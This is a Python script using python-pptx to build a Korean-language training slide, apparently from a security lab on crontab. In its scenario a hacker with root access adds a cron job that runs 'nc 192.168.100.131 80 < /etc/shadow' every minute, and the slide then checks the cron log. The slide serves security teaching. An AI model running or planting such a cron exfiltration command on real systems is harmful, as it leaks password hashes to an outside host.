
from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

BLACK = RGBColor(0x00, 0x00, 0x00)
RED = RGBColor(0xFF, 0x00, 0x00)
BLUE = RGBColor(0x00, 0x70, 0xC0)
BAND = RGBColor(0xAF, 0xC5, 0xCB)
HEADING_FILL = RGBColor(0xEB, 0xF1, 0xDE)
SANS = "Arial"
KOREAN = "Noto Sans CJK KR"


def write(frame, lines, align=PP_ALIGN.LEFT, line_spacing=None, tab=None):
    """Fill a frame; a line is (space before, indent, size, runs), a run (text, font, colour)."""
    for index, (space, indent, size, runs) in enumerate(lines):
        paragraph = frame.paragraphs[0] if index == 0 else frame.add_paragraph()
        properties = paragraph._p.get_or_add_pPr()
        if indent:
            properties.set("marL", str(Pt(indent)))
        if tab:
            stops = SubElement(properties, qn("a:tabLst"))
            SubElement(stops, qn("a:tab"), pos=str(Inches(tab)), algn="l")
        paragraph.alignment = align
        paragraph.space_before = Pt(space)
        if line_spacing:
            paragraph.line_spacing = Pt(line_spacing)
        for text, font, color in runs:
            run = paragraph.add_run()
            run.text = text
            run.font.size = Pt(size)
            run.font.bold = True
            run.font.name = font
            run.font.color.rgb = color
            run.font._element.set("kern", "0")
            SubElement(run.font._element, qn("a:ea"), typeface=KOREAN)


def draw_borders(cell):
    properties = cell._tc.get_or_add_tcPr()
    for position, side in enumerate(("a:lnL", "a:lnR", "a:lnT", "a:lnB")):
        line = properties.makeelement(qn(side), {"w": str(Pt(1))})
        fill = SubElement(line, qn("a:solidFill"))
        SubElement(fill, qn("a:srgbClr"), val=str(BLACK))
        properties.insert(position, line)


prs = Presentation()
prs.slide_width, prs.slide_height = Inches(10), Inches(7.5)
slide = prs.slides.add_slide(prs.slide_layouts[5])

# Header band, split around the title, and the footer rule
for left, top, width, height, color in (
    (0, 0.45, 0.66, 0.25, BAND),
    (3.45, 0.45, 6.55, 0.25, BAND),
    (0.77, 6.99, 8.75, 0.04, BLACK),
):
    bar = slide.shapes.add_shape(
        MSO_SHAPE.RECTANGLE, Inches(left), Inches(top), Inches(width), Inches(height)
    )
    bar.fill.solid()
    bar.fill.fore_color.rgb = color
    bar.line.fill.background()
    bar.shadow.inherit = False

title = slide.shapes.title
title.left, title.top = Inches(0.75), Inches(0.36)
title.width, title.height = Inches(2.6), Inches(0.43)
title.text_frame.vertical_anchor = MSO_ANCHOR.MIDDLE
title.text_frame.margin_top = title.text_frame.margin_bottom = Inches(0.04)
write(title.text_frame, [(0, 0, 20, [("crontab 설정 실습", SANS, BLACK)])], PP_ALIGN.CENTER)

# Command tables: a tinted heading row over a row of commands
redirect = ("<", KOREAN, RED)
meaning = [
    ("/etc/shadow 내용을  192.168.100.131 80 포트로 입력 값으로 전송 ( ", KOREAN, BLACK),
    redirect,
    (" : 입력 재지정)", KOREAN, BLACK),
]
cron_job = [
    ("* * * * *  nc  192.168.100.131  80 ", KOREAN, BLACK),
    redirect,
    (" /etc/shadow", KOREAN, BLACK),
]
scenario_heading = [("시나리오: root권한 탈취당해 해커가 crontab 수정이 가능 한 상황", KOREAN, BLUE)]
scenario_steps = [
    (0, 0, 12, [("# yum –y install nc\t(nc : 네트워크 관련 프로그램)", KOREAN, BLACK)]),
    (0, 0, 12, [("# rpm –qa |grep ncat-\t(nc설치여부 확인)", KOREAN, BLACK)]),
    (35.5, 0, 16, [("# crontab –e", KOREAN, RED)]),
    (17, 5.5, 12, cron_job),
]
log_heading = [("새 터미널 열어서 ", SANS, BLUE), ("cron 로그 확인", KOREAN, BLUE)]
log_steps = [(0, 0, 12, [("#tail –f /var/log/cron\t(->log 확인)", KOREAN, BLACK)])]

for top, width, heights, heading, steps, anchor, tab in (
    (1.41, 9.13, (0.39, 2.03), scenario_heading, scenario_steps, MSO_ANCHOR.TOP, 3),
    (5.32, 9.14, (0.31, 0.62), log_heading, log_steps, MSO_ANCHOR.MIDDLE, 2),
):
    table = slide.shapes.add_table(
        2, 1, Inches(0.51), Inches(top), Inches(width), Inches(sum(heights))
    ).table
    table.first_row = table.horz_banding = False
    heading_cell, steps_cell = table.cell(0, 0), table.cell(1, 0)
    for row, height in zip(table.rows, heights):
        row.height = Inches(height)
    for cell in (heading_cell, steps_cell):
        cell.margin_left = cell.margin_right = Inches(0.07)
        cell.margin_top = cell.margin_bottom = 0
        draw_borders(cell)
    heading_cell.vertical_anchor = MSO_ANCHOR.MIDDLE
    heading_cell.fill.solid()
    heading_cell.fill.fore_color.rgb = HEADING_FILL
    write(heading_cell.text_frame, [(0, 0, 12, heading)])
    steps_cell.vertical_anchor = anchor
    steps_cell.fill.background()
    write(steps_cell.text_frame, steps, tab=tab)

# Subtitle, remark under the scenario, explanation of the cron entry, and footer
subtitle = [(0, 0, 14, [("- 희생자 PC", KOREAN, BLUE)])]
remark = [(0, 0, 12, [("(-> ", KOREAN, BLACK)] + meaning)]
explanation = [
    (0, 0, 12, [("※ crontab 으로 설정된 내용의 의미 :", SANS, BLACK)]),
    (0, 3.5, 12, cron_job),
    (14.4, 3.5, 12, meaning),
]
footer = [(0, 0, 8, [("crontab 설정", SANS, BLACK)])]
for left, top, width, height, lines, align, spacing in (
    (0.55, 0.96, 4.49, 0.34, subtitle, PP_ALIGN.LEFT, None),
    (0.48, 3.77, 9.13, 0.34, remark, PP_ALIGN.LEFT, None),
    (0.55, 4.14, 8.88, 0.91, explanation, PP_ALIGN.LEFT, 14.4),
    (8.62, 7.06, 0.9, 0.24, footer, PP_ALIGN.CENTER, None),
):
    note = slide.shapes.add_textbox(Inches(left), Inches(top), Inches(width), Inches(height))
    note.text_frame.word_wrap = True
    write(note.text_frame, lines, align, spacing)

prs.save("out.pptx")
